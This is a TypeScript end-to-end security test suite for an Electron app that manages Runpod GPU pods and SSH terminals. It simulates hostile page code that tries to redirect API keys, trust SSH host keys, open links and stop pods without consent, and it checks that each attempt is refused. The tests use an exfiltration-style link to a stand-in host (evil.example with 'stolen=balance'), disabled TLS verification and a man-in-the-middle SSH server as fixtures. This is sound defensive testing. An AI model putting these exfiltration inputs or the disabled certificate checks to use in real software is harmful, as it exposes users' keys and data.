import { readFileSync, writeFileSync } from 'node:fs'
import { mkdir, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, describe, expect, onTestFinished, test } from 'vitest'
import type { SshEndpoint } from '../../src/core/pods/pod'
import type { SshKeysView } from '../../src/core/terminal/ssh-keys'
import { requestNames } from '../../src/shared/ipc'
import { createSimulator, FULL_KEY, type Simulator } from '../../src/simulator/simulator'
import { startHttpServer, type TestServer, text } from '../harness/http/http-server'
import { type SelfSignedServer, startSelfSignedServer } from '../harness/http/self-signed-server'
import { launch, type RunningApp } from '../harness/app/start/launch'
import {
  answerQuestion,
  confirmByKeyboard,
  confirmWindows,
  questionTitled,
  trustHostKey,
} from '../harness/app/act/questions'
import {
  accountIdOf,
  actionsSent,
  card,
  openCard,
  openScene,
  podKeyIn,
  type Scene,
  screenshot,
  terminalsView,
} from '../harness/app/start/scene'
import { podAt } from '../harness/app/start/ssh-pod'
import { freshMainWindow } from '../harness/app/start/terminal-app'
import { waitUntil } from '../harness/app/act/wait-until'
import { startOpenSshForTest, tempFolder } from '../harness/ssh/openssh-for-test'
import { generateKeyPair, minimalShell, type OpenSshServer } from '../harness/ssh/openssh-server'
import { endsWithFile } from '../harness/setup/ends-with-file'

/*
 * Someone else's code runs in a window of the real app and tries to steer keys, trust, links and losses. Real servers
 * listen where it aims. Afterwards the person does the same on purpose, by keyboard alone.
 */

type Answer<T = unknown> =
  | { readonly ok: true; readonly value: T }
  | { readonly ok: false; readonly error: { readonly message: string } }

/** Runs code in the page as an attacker would, with the bridge as `app`. */
const attack = <T = Answer>(page: Page, code: string): Promise<T> =>
  page.evaluate<T>(`(async () => { const { app } = window; ${code} })()`)

async function pictures(page: Page, name: string): Promise<void> {
  await page.locator('footer button:last-child:not([data-disabled])').waitFor()
  for (const colorScheme of ['light', 'dark'] as const) {
    await page.emulateMedia({ colorScheme })
    await screenshot(page, `questions/${name}-${colorScheme}`)
  }
}

async function cancelAllQuestions(running: RunningApp): Promise<void> {
  await waitUntil('all questions to be gone', async () => {
    for (const page of confirmWindows(running)) await page.keyboard.press('Escape').catch(() => undefined)
    return confirmWindows(running).length === 0
  })
}

describe('where keys are sent', () => {
  let listener: TestServer
  let certified: SelfSignedServer
  let runpod: Simulator
  let running: RunningApp
  let page: Page
  let window: Page

  const settingsFile = (): { settings?: Record<string, unknown> } =>
    JSON.parse(readFileSync(join(running.dataDir, 'config.json'), 'utf8')) as never

  beforeAll(async () => {
    listener = await startHttpServer(text('{"pods":[]}'))
    runpod = await createSimulator({ seed: 3, pods: [{ id: 'a', name: 'llama', mode: 'training' }] })
    certified = await startSelfSignedServer()
    // Node would accept every certificate by this.
    running = await launch({ env: { NODE_TLS_REJECT_UNAUTHORIZED: '0' } })
    page = await running.popover()
    await page.evaluate("window.app.openWindowAt('settings', 'runpodBaseUrl')")
    window = await running.mainWindow()
    await running.app.evaluate(({ clipboard }, key) => clipboard.writeText(key), FULL_KEY)
  })
  afterAll(async () => {
    await running?.close()
    await listener?.close()
    await certified?.close()
    await runpod?.close()
  })

  test('is decided by no request of a page, and no imported file', async () => {
    const file = join(tempFolder('import'), 'settings.json')
    const settings = { runpodBaseUrl: `${listener.origin}/v2`, sshKeyFile: '/tmp/known', undoS: 7 }
    writeFileSync(file, JSON.stringify({ podkeeperSettings: 1, settings }))
    await running.app.evaluate(({ dialog }, path) => {
      // The person chooses the file that someone sent them.
      dialog.showOpenDialog = (() => Promise.resolve({ canceled: false, filePaths: [path] })) as never
    }, file)
    const answers = await attack<Answer[]>(
      page,
      `const aim = ${JSON.stringify(`${listener.origin}/v2`)}
       const answers = [await app.changeSetting('runpodBaseUrl', aim), await app.resetSetting('runpodBaseUrl'),
         await app.changeSetting('sshKeyFile', '/tmp/known')]
       const preview = await app.chooseImport()
       await app.applyImport(preview.value.importId)
       await app.pasteKey()
       return [...answers, preview]`,
    )
    const preview = answers.pop()
    expect(answers).toEqual(
      answers.map(() => ({ ok: false, error: { message: expect.stringContaining('Nothing was changed.') } })),
    )
    expect(preview).toMatchObject({
      value: { changes: [{ name: 'undoS' }], left: ['Runpod API address', 'SSH private key'] },
    })
    expect(settingsFile().settings).toEqual({ undoS: 7 })
    expect(listener.requests).toEqual([])
  })

  test('cannot be answered by the page that asked for the question', async () => {
    // Not awaited by the page, because the question stays open.
    await attack(page, 'void app.changeApiAddress(); return { ok: true, value: null }')
    await questionTitled(running, 'Change the address of the API?')
    const answers = await attack<string[]>(
      page,
      `const names = Object.keys(app)
       return names.filter((name) => /confirmation/i.test(name)).concat(typeof window.confirmation)`,
    )
    expect(answers).toEqual(['undefined'])
    await cancelAllQuestions(running)
    expect(settingsFile().settings).toEqual({ undoS: 7 })
  })

  test('is shown before a key is pasted, and changed by the person, by keyboard alone', async () => {
    const row = window.getByRole('group', { name: 'Runpod API address' })
    expect(await row.textContent()).toContain('Default')
    await row.getByRole('button').focus()
    await window.keyboard.press('Enter')
    const question = await questionTitled(running, 'Change the address of the API?')
    await pictures(question, 'api-address')
    // The field has the focus.
    await question.keyboard.type('http://keys.example')
    await question.keyboard.press('Enter')
    await expect
      .poll(() => question.getByRole('alert').textContent())
      .toBe('The address must begin with https://, or be on this computer.')
    await question.keyboard.press('Control+A')
    await question.keyboard.type(`${certified.origin}/v2`)
    await question.keyboard.press('Enter').catch(() => undefined)
    await expect
      .poll(() => settingsFile().settings)
      .toMatchObject({ runpodBaseUrl: `${certified.origin}/v2` })

    // A certificate that cannot be verified gets no key, even if the environment tells Node to accept it.
    await page.getByRole('button', { name: 'Paste key' }).click()
    await expect.poll(() => page.getByText(/certificate of 127\.0\.0\.1/).count()).toBe(1)
    expect(certified.requests).toEqual([])

    await row.getByRole('button').first().focus()
    await window.keyboard.press('Enter')
    const again = await questionTitled(running, 'Change the address of the API?')
    await waitUntil('the field to have the focus', () =>
      again.evaluate<boolean>("document.activeElement?.tagName === 'INPUT'"),
    )
    await again.keyboard.press('Control+A')
    await again.keyboard.type(`${runpod.url}/v2`)
    await again.keyboard.press('Enter').catch(() => undefined)
    await expect.poll(() => settingsFile().settings).toMatchObject({ runpodBaseUrl: `${runpod.url}/v2` })
    const host = new URL(runpod.url).host
    await expect.poll(() => page.textContent('.hint')).toContain(`${host} only`)
    await page.getByRole('button', { name: 'Paste key' }).focus()
    await page.keyboard.press('Enter')
    await expect.poll(() => runpod.requests.length).toBeGreaterThan(0)
    await waitUntil('the account', () =>
      page.evaluate<boolean>('window.app.snapshot().then(({ value }) => value.account !== null)'),
    )
    expect(listener.requests).toEqual([])
  })

  test('gets no clipboard that holds something else than one key', async () => {
    const before = listener.requests.length
    for (const other of ['correct horse battery staple', 'Tr0ub4dor-and-3', `${FULL_KEY}\nand more`]) {
      await running.app.evaluate(({ clipboard }, value) => clipboard.writeText(value), other)
      await waitUntil('an answer', async () => {
        const answer = await attack<Answer<{ kind: string }>>(page, 'return app.pasteKey()')
        if (answer.ok) expect(answer.value.kind).toBe('not-a-key')
        return answer.ok
      })
    }
    expect(listener.requests.length).toBe(before)
    expect(runpod.requests.filter(({ authorizationOk }) => !authorizationOk)).toEqual([])
  })
})

/** Requests that leave the account, or wait for an answer of the person. */
const ASKING: readonly string[] = [
  'removeAccount',
  'answerAccountQuestion',
  'startDemo',
  'pasteKey',
  'changeApiAddress',
  'addChannel',
  'replaceChannelAddress',
  'removeChannel',
  'exportSettings',
  'chooseLogFile',
  'importPreset',
  'chooseImport',
  'chooseSshKeyFile',
  'exportCosts',
  'exportActivity',
  'chooseJobFiles',
  'chooseResultsFolder',
  'openLocalFolder',
  'removeSshHosts',
  'changeEditorCommand',
  'fetchJobResults',
  'closeTerminal',
  'retryTerminal',
  'openTerminal',
  'hidePopover',
  'openPage',
  'copyDiagnostics',
  'act',
  'changePodRules',
  'registerSshKey',
  'showQuestion',
]

describe('in an account with pods, a page', () => {
  let scene: Scene
  let window: Page
  /** A man in the middle, who has copied nothing of the real pod. */
  let middle: OpenSshServer
  let home: string

  const endsWith = endsWithFile()
  beforeAll(async () => {
    home = tempFolder('home', endsWith)
    await mkdir(join(home, '.ssh'), { mode: 0o700 })
    const key = generateKeyPair(join(home, '.ssh/id_ed25519'))
    middle = await startOpenSshForTest({ ...minimalShell, authorized: [key.publicLine] }, endsWith)
    scene = await openScene({
      pods: [
        podAt(middle),
        { id: 'other', name: 'other', mode: 'training' },
        { id: 'a', name: 'comfy-scratch', mode: 'idle', costPerHourUsd: 0.69, containerDiskGb: 40 },
      ],
      ssh: 'any-key',
      settings: { undoS: 1 },
      launch: { env: { HOME: home, SSH_AUTH_SOCK: '' } },
    })
    endsWith(() => scene.close())
    await scene.pasteKey()
    await scene.page.evaluate("window.app.openWindow('pods')")
    window = await scene.running.mainWindow()
    await window.setViewportSize({ width: 1100, height: 800 })
    await card(window, 'llama').waitFor()
  })
  afterEach(() => cancelAllQuestions(scene.running))

  const terminals = async () => (await terminalsView(window)).terminals

  describe('trust', () => {
    test('in a server is given by no request of a page, so that it learns nothing', async () => {
      await attack(window, `return app.openTerminal('${await podKeyIn(window, 'pod-1')}')`)
      await questionTitled(scene.running, 'Is this llama?')
      // Every request, with what the page knows: the terminal, the fingerprint, a yes.
      await attack(
        window,
        `const { value: { terminals: [{ id, state }] } } = await app.terminals()
       const { fingerprint } = state.question.offered
       for (const name of ${JSON.stringify(requestNames.filter((name) => !ASKING.includes(name)))})
         for (const args of [[], [id], [id, fingerprint, true], [id, 'llama'], [fingerprint], [fingerprint, true]])
           await app[name](...args)
       return { ok: true, value: null }`,
      )
      expect(await terminals()).toMatchObject([{ state: { kind: 'asking' } }])
      expect(middle.attempts()).toBe(0)
    })

    test('is given by the person, by keyboard alone, and opens the shell in one go', async () => {
      await card(window, 'llama').getByRole('button', { name: 'Terminal on llama' }).focus()
      await window.keyboard.press('Enter')
      const question = await questionTitled(scene.running, 'Is this llama?')
      const shown = await question.textContent('main')
      expect(shown).toContain(`${middle.username}@127.0.0.1:${middle.port} is new to Podkeeper.`)
      expect(shown).toMatch(/ed25519 SHA256:[\w+/]{43}/)
      await pictures(question, 'host-key')
      await confirmByKeyboard(question, 'Trust this key')
      await waitUntil('an open terminal', async () =>
        (await terminals()).some(({ state }) => state.kind === 'open'),
      )
      expect(middle.attempts()).toBeGreaterThan(0)
    })
  })

  // Before the account is asked for its keys, since it has none, and then none is offered.
  describe('links of a terminal', () => {
    let opened: () => Promise<string[]>

    beforeAll(async () => {
      await freshMainWindow(scene)
      // The host key is trusted by now.
      await card(window, 'llama').getByRole('button', { name: 'Terminal on llama' }).click()
      await waitUntil('a shell', async () =>
        (await window.locator('.xterm-rows').textContent())?.match(/[$#]/),
      )
      const handle = await scene.running.app.evaluateHandle(({ shell }) => {
        const addresses: string[] = []
        shell.openExternal = (address) => {
          addresses.push(address)
          return Promise.resolve()
        }
        return addresses
      })
      opened = () => handle.jsonValue()
    })

    const open = (address: string): Promise<Answer> =>
      attack(
        window,
        `const { value: { terminals: [{ id }] } } = await app.terminals()
       return app.openTerminalLink(id, ${JSON.stringify(address)})`,
      )

    test('carry nothing out that no pod wrote', async () => {
      for (const address of [
        'https://evil.example/?stolen=balance',
        'https://console.runpod.io/?stolen=balance',
        'https://',
      ])
        expect(await open(address)).toMatchObject({ ok: false })
      // The one about the host key is closed by now.
      await expect.poll(() => confirmWindows(scene.running).length).toBe(0)
      expect(await opened()).toEqual([])
    })

    test('open once the person agrees to their host, by keyboard alone', async () => {
      const address = 'https://docs.example/a/page?with=a-long-query'
      await window.locator('.xterm-helper-textarea').focus()
      await window.keyboard.type(`echo ${address.replace('docs', 'do""cs')}`)
      await window.keyboard.press('Enter')
      await waitUntil('the address', async () =>
        (await window.locator('.xterm-rows').textContent())?.includes(address),
      )
      const first = open(address)
      const question = await questionTitled(scene.running, 'Open docs.example in your browser?')
      expect(await question.textContent('main')).toContain(address)
      expect(await opened()).toEqual([])
      await pictures(question, 'link')
      await confirmByKeyboard(question, 'Open link')
      expect(await first).toMatchObject({ ok: true })
      expect(await opened()).toEqual([address])
      // A page may not use the host for what no pod wrote.
      expect(await open(`${address}&stolen=balance`)).toMatchObject({ ok: false })
      expect(await opened()).toEqual([address])
    })
  })

  describe('trust', () => {
    test('in a server that the API calls a proxy is asked about, although known_hosts and ~/.ssh/config name it', async () => {
      const bastionKey = generateKeyPair(join(home, '.ssh/bastion'))
      const bastion = await startOpenSshForTest({ ...minimalShell, authorized: [bastionKey.publicLine] })
      const hostKey = readFileSync(`${bastion.hostKeyFiles[0]!}.pub`, 'utf8').split(' ').slice(0, 2).join(' ')
      await writeFile(join(home, '.ssh/known_hosts'), `[127.0.0.1]:${bastion.port} ${hostKey}\n`)
      await writeFile(join(home, '.ssh/config'), 'Host 127.0.0.1\n  IdentityFile ~/.ssh/bastion\n')
      onTestFinished(() => writeFileSync(join(home, '.ssh/config'), ''))
      const proxy: SshEndpoint = { host: '127.0.0.1', port: bastion.port, username: bastion.username }
      scene.runpod.setPod('other', { overrides: { ssh: { direct: null, proxy: { ...proxy, command: '' } } } })
      await waitUntil('the proxy', () =>
        window.evaluate<boolean>(
          "window.app.snapshot().then(({ value }) => value.pods.find(({ id }) => id === 'other').sshRoute === 'proxy')",
        ),
      )
      await attack(window, `return app.openTerminal('${await podKeyIn(window, 'other')}')`)
      await questionTitled(scene.running, 'Connect to other through 127.0.0.1?')
      expect(bastion.attempts()).toBe(0)
      // Even a yes offers it none of the keys that the config names for that host.
      await trustHostKey(scene.running)
      await waitUntil('the refusal', async () =>
        (await terminals()).some(({ podId, state }) => podId === 'other' && state.kind === 'failed'),
      )
      expect(bastion.log()).not.toContain('Accepted')
      const bastionFingerprint = readFileSync(`${bastionKey.file}.pub`, 'utf8').split(' ')[1]!.slice(0, 40)
      expect(bastion.log()).not.toContain(bastionFingerprint)
    })

    test('in a key file and in a registered key is given by no request of a page', async () => {
      // A key whose private half everybody has.
      const known = generateKeyPair(join(home, '.ssh/known-to-everybody'))
      const before = await registered()
      const view = await attack<Answer<SshKeysView>>(
        window,
        `await app.changeSetting('sshKeyFile', ${JSON.stringify(known.file)})
       const view = await app.sshKeys('${await podKeyIn(window, 'pod-1')}')
       for (const { fingerprint } of view.value.local) void app.registerSshKey('${await accountIdOf(window)}', fingerprint, null)
       return view`,
      )
      expect(view.ok && view.value.local.map(({ name }) => name)).not.toContain('~/.ssh/known-to-everybody')
      const question = await questionTitled(scene.running, 'Register this SSH key in your Runpod account?')
      expect(await question.textContent('main')).toContain('~/.ssh/id_ed25519')
      expect(await registered()).toEqual(before)
    })

    const registered = async (): Promise<unknown> =>
      window.evaluate(
        `window.app.sshKeys('${await podKeyIn(window, 'pod-1')}').then(({ value }) => value.registeredCount)`,
      )
  })

  describe('losses', () => {
    const account = (): Promise<unknown> =>
      scene.page.evaluate(
        'window.app.snapshot().then(({ value }) => [value.account?.isDemo ?? null, value.pods.map(({ id }) => id).sort()])',
      )

    test('are caused by no request of a page: neither a stop, nor leaving the account', async () => {
      await attack(
        scene.page,
        `void app.act('${await podKeyIn(scene.page, 'a')}', 'stop')
       void app.changePodRules('${await podKeyIn(scene.page, 'a')}', { mayLoseData: true, maxHours: 0.001 })
       void app.removeAccount('${await accountIdOf(scene.page)}')
       void app.startDemo()
       return { ok: true, value: null }`,
      )
      await waitUntil('a question', () => confirmWindows(scene.running).length === 1)
      // Polling continues meanwhile, so there was enough time.
      const seen = scene.runpod.requests.length
      await waitUntil('further polls', () => scene.runpod.requests.length > seen + 3)
      expect(actionsSent(scene)).toEqual([])
      expect(await account()).toEqual([false, ['a', 'other', 'pod-1']])
      await cancelAllQuestions(scene.running)
      expect(await account()).toEqual([false, ['a', 'other', 'pod-1']])
      const rules = await scene.page.evaluate(
        "window.app.snapshot().then(({ value }) => value.pods.find(({ id }) => id === 'a').guard.rules)",
      )
      expect(rules).toEqual({})
    })

    test('are asked about where nothing survives a stop, which is sent after a yes by keyboard', async () => {
      const opened = await openCard(scene.page, 'comfy-scratch')
      await opened.getByRole('button', { name: 'Stop comfy-scratch' }).focus()
      await scene.page.keyboard.press('Enter')
      const question = await questionTitled(scene.running, 'Stop comfy-scratch?')
      expect(await question.textContent('main')).toContain(
        'Nothing is kept; the container disk (40 GB) is lost.',
      )
      await pictures(question, 'stop')
      await confirmByKeyboard(question, 'Stop pod')
      await expect.poll(() => actionsSent(scene)).toEqual(['stop a'])
    })

    test('are limited to one open window, which is another process than the pages', async () => {
      // The demo waits for open actions.
      await waitUntil('the stop', () =>
        scene.page.evaluate<boolean>(
          "window.app.snapshot().then(({ value }) => value.pods.find(({ id }) => id === 'a').phase === 'stopped')",
        ),
      )
      await attack(scene.page, 'void app.startDemo(); return { ok: true, value: null }')
      const question = await questionTitled(scene.running, 'Leave your account for the demo?')
      await pictures(question, 'start-demo')
      const facts = await scene.running.app.evaluate(({ BrowserWindow, session }) =>
        BrowserWindow.getAllWindows().map(({ webContents }) => ({
          page: webContents.getURL().split('/').at(-1),
          pid: webContents.getOSProcessId(),
          hasDefaultSession: webContents.session === session.defaultSession,
        })),
      )
      const own = facts.filter(({ page }) => page === 'confirm.html')
      const others = facts.filter(({ page }) => page !== 'confirm.html')
      expect(own).toMatchObject([{ hasDefaultSession: false }])
      expect(others.length).toBeGreaterThan(0)
      for (const { pid, hasDefaultSession } of others) {
        expect(hasDefaultSession).toBe(true)
        expect(pid).not.toBe(own[0]?.pid)
      }
      await answerQuestion(scene.running, 'Leave your account for the demo?', 'Cancel')
      expect(await account()).toMatchObject([false, ['a', 'other', 'pod-1']])
    })
  })
})
